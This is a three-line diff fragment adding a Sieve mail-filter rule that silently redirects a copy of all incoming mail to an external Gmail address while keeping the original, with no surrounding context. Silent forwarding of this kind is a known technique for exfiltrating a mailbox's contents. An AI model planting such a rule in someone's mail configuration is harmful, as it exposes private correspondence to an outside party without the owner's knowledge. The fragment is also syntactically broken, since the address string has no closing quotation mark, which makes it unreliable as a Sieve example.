@@ -1,0 +1,3 @@
+require ["copy"];
+redirect :copy "x@gmail.com;
+keep;
